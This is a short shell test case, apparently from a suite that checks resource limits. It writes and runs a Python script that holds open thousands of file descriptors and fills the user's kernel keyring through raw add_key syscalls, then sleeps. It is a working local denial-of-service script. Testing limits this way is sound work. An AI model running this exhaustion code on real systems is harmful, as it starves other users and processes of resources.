# family: resources
# what: Every descriptor, lock and key that a user may have is taken.
# user: any
cat > "$scratch/later.py" <<'END'
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
held = []
try:
    while len(held) < 20000:
        held.append(os.open("/dev/null", os.O_RDONLY))
except OSError:
    pass
for number in range(200):
    libc.syscall(248, b"user", b"cheat%d" % number, b"x" * 100, 100, -3)
time.sleep(60)
END
later python3 "$scratch/later.py"
. "$scratch/pay.sh"
